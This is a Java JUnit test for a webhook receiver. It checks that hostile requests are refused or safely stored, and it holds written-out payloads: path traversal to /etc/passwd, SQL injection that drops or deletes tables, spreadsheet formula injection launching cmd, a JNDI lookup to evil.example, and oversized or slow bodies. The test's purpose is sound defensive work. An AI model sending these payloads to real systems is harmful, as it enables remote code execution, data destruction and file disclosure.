package fr.vendange.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/**
 * What strangers send. The answer is a 4xx with one sentence or the end of the connection, and the next call is served.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileCallsTest {
    private static final int MEBIBYTE = 1 << 20;
    private static final String TOO_LARGE = "413 {\"error\":\"Le corps dépasse 1 Mio.\"}";

    private Installation installation;
    private Installation.Service service;
    private int port;

    @BeforeAll
    void start(@TempDir Path home) throws IOException {
        installation = new Installation(home);
        port = WebhooksTest.freePort();
        installation.environment.put("WEBHOOK_PORT", Integer.toString(port));
        installation.environment.put("WEBHOOK_BREVO_SECRET", "secret");
        installation.environment.put("WEBHOOK_PATIENCE", "2s");
        service = installation.start();
    }

    @AfterAll
    void stop() {
        service.close();
    }

    @AfterEach
    void theNextCallIsServed() throws IOException {
        String event = "{\"event\":\"delivered\",\"email\":\"a@b.fr\",\"ts_event\":1}";
        assertEquals("200 {\"success\": true}", call(event.getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void nothingAtAll() throws IOException {
        assertEquals("400 {\"error\":\"Le corps est vide : un objet JSON est attendu.\"}", call(new byte[0]));
    }

    @Test
    void aBodyOfOneMebibyteIsTakenAndOneByteMoreIsNot() throws IOException {
        assertEquals("200 {\"success\": true}", call(event(MEBIBYTE)));
        assertEquals(TOO_LARGE, call(event(MEBIBYTE + 1)));
    }

    @Test
    void chunksWithoutEnd() throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            OutputStream out = socket.getOutputStream();
            out.write(head("Transfer-Encoding: chunked"));
            byte[] chunk = ("10000\r\n" + "x".repeat(0x10000) + "\r\n").getBytes(StandardCharsets.ISO_8859_1);
            String answer = "";
            try {
                for (int i = 0; i < 64; i++) {
                    out.write(chunk);
                }
                answer = answer(socket.getInputStream());
            } catch (IOException e) {
                // ended under us: that is an answer as well
                answer = TOO_LARGE;
            }
            assertEquals(TOO_LARGE, answer);
        }
    }

    @Test
    void bytesThatAreNoText() throws IOException {
        assertEquals(
                "400 {\"error\":\"Le corps n’est pas en UTF-8.\"}",
                call(new byte[] {'{', '"', (byte) 0xC3, '(', '"', ':', '1', '}'}));
    }

    @Test
    void aHundredThousandBrackets() throws IOException {
        assertEquals(
                "400 {\"error\":\"Le JSON a plus de 64 niveaux.\"}",
                call("[".repeat(100_000).getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void aBodyThatComesTooSlowly() throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            socket.getOutputStream().write(head("Content-Length: 100"));
            socket.getOutputStream().write('{');
            assertEquals(
                    "408 {\"error\":\"L’appel n’est pas arrivé en entier à temps.\"}", answer(socket.getInputStream()));
        }
    }

    @Test
    void aHeadThatNeverEnds() throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(30_000);
            socket.getOutputStream()
                    .write("POST /webhooks/brevo HTTP/1.1\r\nHost: x\r\nX-A".getBytes(StandardCharsets.US_ASCII));
            assertEquals(-1, socket.getInputStream().read());
        }
    }

    @Test
    void formsAndFilesAreNoJson() throws IOException {
        for (String type : new String[] {"multipart/form-data; boundary=x", "application/x-www-form-urlencoded"}) {
            String answer = call("a=b".getBytes(StandardCharsets.UTF_8), "Content-Type: " + type);
            assertTrue(answer.startsWith("400 {\"error\":\"") && answer.endsWith("\"}"), type + " " + answer);
        }
    }

    @Test
    void whatASenderNamesAPathIsNoWayToAnotherPlace() throws IOException {
        for (String path : List.of(
                "/webhooks/brevo/../../etc/passwd",
                "/webhooks/brevo/%2e%2e/%2e%2e/etc/passwd",
                "/webhooks/brevo;x=1/",
                "/webhooks/brevo%00",
                "/webhooks//brevo",
                "/webhooks\\brevo",
                "/WEBHOOKS/BREVO/x",
                "//webhooks/brevo/x",
                "http://other/webhooks/x")) {
            try (Socket socket = new Socket("127.0.0.1", port)) {
                socket.getOutputStream()
                        .write(("POST " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer secret\r\n"
                                        + "Content-Length: 2\r\n\r\n{}")
                                .getBytes(StandardCharsets.ISO_8859_1));
                String answer = answer(socket.getInputStream());
                assertTrue(answer.matches("4\\d\\d \\{\"error\":\"[^\"]+\"\\}"), path + " " + answer);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; drop table inbox; --",
                "\\\") or 1=1; delete from contact_history where (\\\"",
                "=cmd|' /C calc'!A1",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "${jndi:ldap://evil.example/x}",
                "{{env:PATH}} ${sys.java.home} $simple{body}"
            })
    void whatLooksLikeACommandIsATextLikeAnyOther(String text) throws Exception {
        String id = Integer.toHexString(text.hashCode());
        String event =
                ("{\"event\":\"click\",\"email\":\"%2$s@b.fr\",\"ts_event\":3,\"message-id\":\"%1$s\",\"subject\":\"%1$s\","
                                + "\"tag\":\"%1$s\",\"link\":\"%1$s\",\"%1$s\":\"%1$s\",\"id\":\"%2$s\"}")
                        .formatted(text, id);
        assertEquals("200 {\"success\": true}", call(event.getBytes(StandardCharsets.UTF_8)));

        String plain = text.replace("\\\"", "\"");
        String row = plain + "|" + plain + "|" + plain;
        long deadline = System.nanoTime() + 20_000_000_000L;
        List<String> stored = List.of();
        while (!stored.contains(row) && System.nanoTime() < deadline) {
            stored = installation.query("select subject, campaign, response_details from contact_history");
        }
        assertTrue(stored.contains(row), row + " is not stored");
    }

    @Test
    void aRefusalIsOneLineOfTheLogWithoutTheSecretOrTheBody() throws IOException {
        ListAppender<ILoggingEvent> lines = new ListAppender<>();
        Logger log = (Logger) LoggerFactory.getLogger("fr.vendange");
        Level usual = log.getLevel();
        log.setLevel(Level.INFO);
        lines.start();
        log.addAppender(lines);
        try {
            String call =
                    "POST /webhooks/brevo?token=query-secret HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer wrong-secret\r\n"
                            + "Content-Length: 19\r\n\r\n{\"x\":\"body-secret\"}";
            try (Socket socket = new Socket("127.0.0.1", port)) {
                socket.getOutputStream().write(call.getBytes(StandardCharsets.ISO_8859_1));
                assertEquals("401 {\"error\":\"Identification absente ou refusée.\"}", answer(socket.getInputStream()));
            }
            List<String> told = lines.list.stream()
                    .map(ILoggingEvent::getFormattedMessage)
                    .filter(line -> line.contains("401") || line.contains("secret"))
                    .toList();
            assertEquals(List.of("brevo: 401 Identification absente ou refusée."), told);
        } finally {
            log.detachAppender(lines);
            log.setLevel(usual);
        }
    }

    private static byte[] event(int size) {
        String start = "{\"event\":\"delivered\",\"email\":\"a@b.fr\",\"ts_event\":2,\"x\":\"";
        return (start + "x".repeat(size - start.length() - 2) + "\"}").getBytes(StandardCharsets.UTF_8);
    }

    private String call(byte[] body, String... headers) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            ByteArrayOutputStream all = new ByteArrayOutputStream();
            all.write(head("Content-Length: " + body.length
                    + (headers.length == 0 ? "" : "\r\n" + String.join("\r\n", headers))));
            all.write(body);
            try {
                socket.getOutputStream().write(all.toByteArray());
            } catch (IOException e) {
                // answered before all was sent
                assertTrue(body.length > MEBIBYTE, e::toString);
            }
            return answer(socket.getInputStream());
        }
    }

    private static byte[] head(String headers) {
        return ("POST /webhooks/brevo HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer secret\r\n" + headers
                        + "\r\n\r\n")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    private static String answer(InputStream in) throws IOException {
        int length = 0;
        String status = line(in);
        for (String header = line(in); !header.isEmpty(); header = line(in)) {
            if (header.toLowerCase(Locale.ROOT).startsWith("content-length:")) {
                length = Integer.parseInt(header.substring(15).strip());
            }
        }
        return status.split(" ")[1] + " " + new String(in.readNBytes(length), StandardCharsets.UTF_8);
    }

    private static String line(InputStream in) throws IOException {
        StringBuilder line = new StringBuilder();
        for (int c = in.read(); c >= 0 && c != '\n'; c = in.read()) {
            line.append(c == '\r' ? "" : (char) c);
        }
        return line.toString();
    }
}
